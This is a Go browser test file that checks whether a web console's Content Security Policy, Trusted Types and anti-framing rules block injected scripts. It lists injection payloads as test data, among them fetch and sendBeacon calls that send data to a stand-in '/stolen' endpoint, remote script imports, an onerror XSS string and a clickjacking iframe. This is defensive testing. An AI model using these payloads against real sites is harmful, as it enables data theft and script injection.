package browsertest

import (
	"fmt"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tidegate/tidegate/internal/assert"

	"github.com/chromedp/chromedp"
)

// A stranger is another origin of this machine, with pages of its own. It counts its requests.
type stranger struct {
	url string

	mu    sync.Mutex
	pages map[string]string // guarded by mu
	seen  []string          // guarded by mu: method and path of each request
}

func startStranger(t *testing.T) *stranger {
	t.Helper()
	lis := assert.Value((&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0"))(t)
	s := &stranger{url: "http://" + lis.Addr().String(), pages: map[string]string{}}
	web := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		s.seen = append(s.seen, r.Method+" "+r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/html")
		if strings.HasSuffix(r.URL.Path, ".js") {
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, "window.pwned = true")
			return
		}
		fmt.Fprint(w, "<!doctype html><title>stranger</title>"+s.pages[r.URL.Path])
	})}
	go web.Serve(lis) // it ends with Close
	t.Cleanup(func() { web.Close() })
	return s
}

func (s *stranger) page(path, html string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.pages[path] = html
}

func (s *stranger) requests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.seen)
}

// attempts are actions of an injected script. One directive of the policy stops each of them.
var attempts = []struct{ directive, script string }{
	{"script-src-elem", `import(STRANGER + '/x.js').catch(() => {})`},
	{"style-src-attr", `document.body.setAttribute('style', 'opacity: 0.5')`},
	{"img-src", `new Image().src = STRANGER + '/x.png'`},
	{"connect-src", `fetch(STRANGER + '/stolen').catch(() => {})`},
	{"connect-src", `navigator.sendBeacon(STRANGER + '/stolen', 'x')`},
	{"form-action", `{ const f = document.createElement('form'); f.action = STRANGER + '/form'; f.method = 'post'; document.body.append(f); f.submit(); }`},
	{"base-uri", `{ const b = document.createElement('base'); b.href = STRANGER; document.head.append(b); }`},
	{"media-src", `new Audio(STRANGER + '/x.mp3').load()`},
	{"frame-src", `{ const f = document.createElement('iframe'); f.src = STRANGER + '/'; document.body.append(f); }`},
	{"style-src-elem", `{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = STRANGER + '/x.css'; document.head.append(l); }`},
	{"require-trusted-types-for", `try { document.createElement('p').innerHTML = '<img src=x onerror="window.pwned = true">' } catch {}`},
	{"require-trusted-types-for", `try { document.createElement('script').text = 'window.pwned = true' } catch {}`},
	{"trusted-types", `try { trustedTypes.createPolicy('mine', {createHTML: (x) => x}) } catch {}`},
}

// A script that is injected nevertheless can neither load code, nor send data to another origin,
// nor turn text into markup.
func TestPolicyStopsInjectedScripts(t *testing.T) {
	s, other := start(t, siteOptions{}), startStranger(t)
	b := open(t, s.url)
	b.load("")
	for _, a := range attempts {
		b.eval(`window.violations = []; null`, nil)
		b.run(chromedp.Evaluate[chromedp.Void](strings.ReplaceAll(a.script, "STRANGER", fmt.Sprintf("%q", other.url)) + `; undefined`))
		if !b.becomes(fmt.Sprintf(`window.violations.some((v) => v.startsWith(%q))`, a.directive), 3*time.Second) {
			got := value[[]string](b, `window.violations`)
			t.Errorf("%s: violations %q, want one of %s", a.script, got, a.directive)
		}
	}
	base := value[string](b, `document.baseURI`)
	var pwned bool
	b.eval(`!!window.pwned`, &pwned)
	if got := other.requests(); len(got) > 0 || pwned || !strings.HasPrefix(base, s.url) {
		t.Errorf("the other origin got %q; code ran: %t; the base is %s", got, pwned, base)
	}
}

// A page of another origin cannot show the console in a frame, where it could steal clicks.
func TestConsoleIsNotFramed(t *testing.T) {
	var mu sync.Mutex
	scripts := 0
	s := start(t, siteOptions{wrap: func(h http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, "/main.js") {
				mu.Lock()
				scripts++
				mu.Unlock()
			}
			h.ServeHTTP(w, r)
		})
	}})
	loaded := func() int {
		mu.Lock()
		defer mu.Unlock()
		return scripts
	}
	other := startStranger(t)
	other.page("/", fmt.Sprintf(`<iframe src="%s/console/" onload="document.title = 'framed'"></iframe>`, s.url))
	b := open(t, "")
	b.run(chromedp.Navigate(other.url + "/"))
	b.wait(`document.title === 'framed'`) // the frame has its error page
	assert.Equal(t, "a frame of another origin loaded the console", loaded(), 0)
	b.run(chromedp.Navigate(s.url + "/console/"))
	b.ready()
	assert.Equal(t, "without a frame the script was loaded times", loaded(), 1)
}
